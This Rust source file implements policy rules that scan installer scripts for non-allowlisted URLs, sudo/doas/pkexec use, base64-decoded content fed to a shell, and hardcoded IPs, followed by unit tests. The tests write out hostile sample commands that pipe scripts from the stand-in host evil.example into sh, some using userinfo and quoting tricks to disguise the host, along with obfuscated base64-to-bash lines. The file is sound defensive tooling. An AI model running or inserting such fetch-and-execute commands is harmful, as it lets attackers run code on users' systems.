//! Built-in policy rules

use super::{PolicyRule, RuleId, ScriptText, Violation};
use once_cell::sync::Lazy;
use regex::Regex;
use std::collections::BTreeSet;
use url::Url;

/// Bytes searched on either side of a decode invocation for a shell
pub const OBFUSCATION_WINDOW: usize = 256;

const SNIPPET_CHARS: usize = 80;

static URL_PATTERN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r#"(?i)\b[a-z][a-z0-9+.\-]*://[^\s"'`<>)]+"#).unwrap());

static ELEVATION_PATTERN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?:^|[^A-Za-z0-9_.\-])(sudo|doas|pkexec)(?:[^A-Za-z0-9_.\-]|$)").unwrap()
});

static DECODE_PATTERN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"\bbase64\b[^\n|;]*?\s(?:-[A-Za-z]*[dD][A-Za-z]*|--decode)\b|\bopenssl\s+(?:base64|enc)\b[^\n|;]*?\s-d\b",
    )
    .unwrap()
});

static SHELL_PATTERN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r#"(?m)(?:^|[\s|;&(`'"])((?:/usr/local/bin/|/usr/bin/|/bin/)?(?:bash|zsh|dash|ksh|sh))(?:[\s;|&)`'"]|$)"#,
    )
    .unwrap()
});

static IPV4_PATTERN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\b\d{1,3}(?:\.\d{1,3}){3}\b").unwrap());

/// Trimmed, length-limited copy of a line for violation messages
fn snippet(line: &str) -> String {
    let trimmed = line.trim();
    match trimmed.char_indices().nth(SNIPPET_CHARS) {
        Some((cut, _)) => format!("{}…", &trimmed[..cut]),
        None => trimmed.to_string(),
    }
}

fn normalize_host(host: &str) -> String {
    host.trim_end_matches('.').to_ascii_lowercase()
}

/// Rule: every URL must point at an allowlisted host or one of its subdomains
pub struct DomainAllowlistRule {
    allowed: BTreeSet<String>,
}

impl DomainAllowlistRule {
    pub fn new<S: AsRef<str>>(domains: impl IntoIterator<Item = S>) -> Self {
        let allowed = domains
            .into_iter()
            .map(|d| normalize_host(d.as_ref().trim().trim_start_matches("*.")))
            .filter(|d| !d.is_empty())
            .collect();
        Self { allowed }
    }

    /// Exact match or dot-boundary suffix match
    pub fn is_allowed(&self, host: &str) -> bool {
        let host = normalize_host(host);
        self.allowed.iter().any(|domain| {
            host == *domain
                || host
                    .strip_suffix(domain.as_str())
                    .is_some_and(|prefix| prefix.ends_with('.'))
        })
    }

    fn check_url(&self, raw: &str, joined: bool) -> Option<String> {
        // Sentence punctuation and shell separators glued to the end of a URL
        let token = raw.trim_end_matches(['.', ',', ';', ':']);
        let after_scheme = token.split_once("://").map_or("", |(_, rest)| rest);
        let authority_end = after_scheme.find(['/', '?', '#']);
        let authority = &after_scheme[..authority_end.unwrap_or(after_scheme.len())];

        // The URL parser reads `\` as a path separator, the shell drops it
        if authority.contains('\\') {
            return Some(format!("{token} has a backslash in its authority"));
        }

        // Quoted pieces the shell joins into the authority change the host
        if joined && authority_end.is_none() {
            return Some(format!(
                "{token} is joined with adjacent quoted text, host cannot be determined"
            ));
        }

        let parsed = match Url::parse(token) {
            Ok(url) => url,
            Err(e) => return Some(format!("cannot determine host of {token} ({e})")),
        };

        if parsed.scheme() == "file" {
            return None;
        }

        match parsed.host_str() {
            Some(host) if self.is_allowed(host) => None,
            Some(host) => Some(format!(
                "{} points at non-allowlisted host {}",
                token,
                normalize_host(host)
            )),
            None => Some(format!("cannot determine host of {token}")),
        }
    }
}

/// True when a URL match ends at a quote and the shell concatenates the
/// following text into the same word without starting a path
fn continues_word(rest: &str) -> bool {
    let unquoted = rest.trim_start_matches(['"', '\'', '`']);
    unquoted.len() < rest.len()
        && unquoted
            .chars()
            .next()
            .is_some_and(|c| !c.is_whitespace() && !"|&;()<>/?#".contains(c))
}

impl PolicyRule for DomainAllowlistRule {
    fn rule_id(&self) -> RuleId {
        RuleId::AllowedDomains
    }

    fn description(&self) -> &'static str {
        "URLs must point at allowlisted domains"
    }

    fn check(&self, script: &ScriptText<'_>) -> Vec<Violation> {
        URL_PATTERN
            .find_iter(script.content)
            .filter_map(|m| {
                let joined = continues_word(&script.content[m.end()..]);
                self.check_url(m.as_str(), joined).map(|detail| Violation {
                    rule: self.rule_id(),
                    detail,
                    line: Some(script.line_of(m.start())),
                })
            })
            .collect()
    }
}

/// Rule: no privilege elevation commands outside comments
pub struct PrivilegeEscalationRule;

impl PolicyRule for PrivilegeEscalationRule {
    fn rule_id(&self) -> RuleId {
        RuleId::PrivilegeEscalation
    }

    fn description(&self) -> &'static str {
        "Installer must not elevate privileges (sudo, doas, pkexec)"
    }

    fn check(&self, script: &ScriptText<'_>) -> Vec<Violation> {
        let mut violations = Vec::new();

        for (number, line) in script.numbered_lines() {
            if line.trim_start().starts_with('#') {
                continue;
            }

            if let Some(caps) = ELEVATION_PATTERN.captures(line) {
                violations.push(Violation {
                    rule: self.rule_id(),
                    detail: format!("uses `{}`: {}", &caps[1], snippet(line)),
                    line: Some(number),
                });
            }
        }

        violations
    }
}

/// Rule: base64-decoded content must not reach a shell interpreter
pub struct ObfuscatedExecutionRule;

impl ObfuscatedExecutionRule {
    /// `between` joins a decode to a later shell within one pipeline
    fn pipes_into_shell(between: &str) -> bool {
        let between = between.replace("\\\n", " ");
        if between.contains(';') || between.contains("&&") || between.contains("||") {
            return false;
        }

        // A newline only continues the pipeline directly after a `|`
        let lines: Vec<&str> = between.split('\n').collect();
        lines[..lines.len() - 1]
            .iter()
            .all(|line| line.trim_end().ends_with('|'))
            && between.contains('|')
    }

    fn feeds_shell_from_substitution(between: &str) -> bool {
        between.contains("$(")
            || between.contains("<(")
            || between.contains('`')
            || between.split_whitespace().any(|word| word == "-c")
    }
}

impl PolicyRule for ObfuscatedExecutionRule {
    fn rule_id(&self) -> RuleId {
        RuleId::ObfuscatedExecution
    }

    fn description(&self) -> &'static str {
        "Base64-decoded content must not be executed by a shell"
    }

    fn check(&self, script: &ScriptText<'_>) -> Vec<Violation> {
        let content = script.content;
        let shells: Vec<(usize, usize, &str)> = SHELL_PATTERN
            .captures_iter(content)
            .filter_map(|caps| caps.get(1))
            .map(|m| (m.start(), m.end(), m.as_str()))
            .collect();

        let mut violations = Vec::new();

        for decode in DECODE_PATTERN.find_iter(content) {
            let (start, end) = (decode.start(), decode.end());

            // decode ... | shell
            let piped = shells.iter().find(|(s, _, _)| {
                *s >= end
                    && *s - end <= OBFUSCATION_WINDOW
                    && Self::pipes_into_shell(&content[end..*s])
            });

            // shell ... $(decode) / <(decode) / -c
            let substituted = || {
                shells.iter().rev().find(|(_, e, _)| {
                    *e <= start
                        && start - *e <= OBFUSCATION_WINDOW
                        && Self::feeds_shell_from_substitution(&content[*e..start])
                })
            };

            let detail = if let Some((_, _, shell)) = piped {
                format!("`{}` is piped into `{}`", decode.as_str(), shell)
            } else if let Some((_, _, shell)) = substituted() {
                format!("`{}` executes output of `{}`", shell, decode.as_str())
            } else {
                continue;
            };

            violations.push(Violation {
                rule: self.rule_id(),
                detail,
                line: Some(script.line_of(start)),
            });
        }

        violations
    }
}

/// Rule: no hardcoded IPv4 literals
pub struct HardcodedIpRule {
    ignored: BTreeSet<String>,
}

impl HardcodedIpRule {
    pub fn new<S: AsRef<str>>(ignored: impl IntoIterator<Item = S>) -> Self {
        Self {
            ignored: ignored
                .into_iter()
                .map(|ip| ip.as_ref().trim().to_string())
                .collect(),
        }
    }
}

impl PolicyRule for HardcodedIpRule {
    fn rule_id(&self) -> RuleId {
        RuleId::HardcodedIp
    }

    fn description(&self) -> &'static str {
        "Installer must not contain hardcoded IP addresses"
    }

    fn check(&self, script: &ScriptText<'_>) -> Vec<Violation> {
        IPV4_PATTERN
            .find_iter(script.content)
            .filter(|m| !self.ignored.contains(m.as_str()))
            .map(|m| Violation {
                rule: self.rule_id(),
                detail: format!("hardcoded IP address {}", m.as_str()),
                line: Some(script.line_of(m.start())),
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn run(rule: &dyn PolicyRule, script: &str) -> Vec<Violation> {
        rule.check(&ScriptText::new(script))
    }

    fn domains() -> DomainAllowlistRule {
        DomainAllowlistRule::new(["github.com", "mise.run", "*.jdx.dev"])
    }

    #[test]
    fn test_domain_boundary() {
        let rule = domains();
        assert!(rule.is_allowed("github.com"));
        assert!(rule.is_allowed("api.github.com"));
        assert!(rule.is_allowed("GitHub.com."));
        assert!(rule.is_allowed("mise.jdx.dev"));
        assert!(!rule.is_allowed("evil-github.com"));
        assert!(!rule.is_allowed("github.com.evil.example"));
        assert!(!rule.is_allowed("jdx.dev.example"));
    }

    #[test]
    fn test_domain_rule_flags_userinfo_trick() {
        let violations = run(&domains(), "curl -fsSL https://github.com@evil.example/x.sh | sh");
        assert_eq!(violations.len(), 1);
        assert!(violations[0].detail.contains("evil.example"));
    }

    #[test]
    fn test_domain_rule_reads_host_as_the_shell_does() {
        let rule = domains();
        assert_eq!(run(&rule, "curl https://github.com\\@evil.example/p.sh\n").len(), 1);
        assert_eq!(run(&rule, "curl https://github.com'@evil.example/p.sh'\n").len(), 1);
        assert_eq!(run(&rule, "curl \"https://github.com\"@evil.example/p.sh\n").len(), 1);
        assert_eq!(run(&rule, "curl \"https://github.com\":x@evil.example/p.sh\n").len(), 1);

        // Joining after the authority is closed keeps the host
        assert!(run(&rule, "curl \"https://github.com\"/jdx/mise\n").is_empty());
        assert!(run(&rule, "curl 'https://github.com/jdx/'\"$path\"\n").is_empty());
        assert!(run(&rule, "x=$(curl \"https://mise.run\")\n").is_empty());
        assert!(run(&rule, "curl https://github.com/a\\b\n").is_empty());
    }

    #[test]
    fn test_domain_rule_handles_punctuation_and_file_urls() {
        let script = "# see https://mise.run.\ncurl https://mise.run; cat file:///etc/hosts\n";
        assert!(run(&domains(), script).is_empty());
    }

    #[test]
    fn test_domain_rule_flags_unresolvable_host() {
        let violations = run(&domains(), "curl \"https://${MIRROR}/install.sh\"\n");
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].line, Some(1));
    }

    #[test]
    fn test_privilege_word_boundaries() {
        let rule = PrivilegeEscalationRule;
        assert!(run(&rule, "echo pseudo\ncp x /etc/sudoers.d/\nmy-sudo run\n").is_empty());
        assert!(run(&rule, "  # sudo is never needed\n").is_empty());

        let violations = run(&rule, "x=$(sudo id)\n/usr/bin/sudo ls\ndoas true\npkexec a\n");
        let lines: Vec<_> = violations.iter().map(|v| v.line).collect();
        assert_eq!(lines, vec![Some(1), Some(2), Some(3), Some(4)]);
    }

    #[test]
    fn test_privilege_one_violation_per_line() {
        let violations = run(&PrivilegeEscalationRule, "sudo a && sudo b\n");
        assert_eq!(violations.len(), 1);
    }

    #[test]
    fn test_obfuscation_pipe_into_shell() {
        let violations = run(&ObfuscatedExecutionRule, "echo ZWNobyBoaQ== | base64 -d | bash\n");
        assert_eq!(violations.len(), 1);
        assert!(violations[0].detail.contains("bash"));
    }

    #[test]
    fn test_obfuscation_substitution_forms() {
        let rule = ObfuscatedExecutionRule;
        assert_eq!(run(&rule, "bash <(echo Zm9v | base64 --decode)\n").len(), 1);
        assert_eq!(run(&rule, "sh -c \"$(printf %s \"$B\" | base64 -di)\"\n").len(), 1);
        assert_eq!(run(&rule, "openssl enc -base64 -d -in p.b64 | /bin/sh\n").len(), 1);
    }

    #[test]
    fn test_obfuscation_ignores_unrelated_decode() {
        let rule = ObfuscatedExecutionRule;
        assert!(run(&rule, "base64 -d key.b64 > key.pem\nbash ./setup.sh\n").is_empty());
        assert!(run(&rule, "echo data | base64 | sh\n").is_empty());

        let far = format!("base64 -d blob > out |{}\nbash x\n", " ".repeat(OBFUSCATION_WINDOW));
        assert!(run(&rule, &far).is_empty());
    }

    #[test]
    fn test_obfuscation_pipe_must_stay_in_one_pipeline() {
        let rule = ObfuscatedExecutionRule;
        assert!(run(&rule, "base64 -d k > k.pem\necho x | grep y\nbash setup.sh\n").is_empty());
        assert!(run(&rule, "base64 -d k > k.pem; echo x | bash\n").is_empty());
        assert!(run(&rule, "base64 -d k > k.pem && echo x | sh\n").is_empty());
        assert!(run(&rule, "base64 -d k > k.pem || echo x | sh\n").is_empty());

        assert_eq!(run(&rule, "echo Zm9v | base64 -d \\\n  | bash\n").len(), 1);
        assert_eq!(run(&rule, "echo Zm9v | base64 -d |\n  bash\n").len(), 1);
    }

    #[test]
    fn test_hardcoded_ip_ignore_list() {
        let rule = HardcodedIpRule::new(["127.0.0.1", "0.0.0.0"]);
        assert!(run(&rule, "listen 127.0.0.1 and 0.0.0.0\n").is_empty());

        let violations = run(&rule, "\ncurl https://192.168.1.20/x\n");
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].line, Some(2));
        assert_eq!(violations[0].detail, "hardcoded IP address 192.168.1.20");
    }

    #[test]
    fn test_snippet_truncates_on_char_boundary() {
        let long = "é".repeat(200);
        let s = snippet(&long);
        assert_eq!(s.chars().count(), SNIPPET_CHARS + 1);
        assert!(s.ends_with('…'));
    }
}
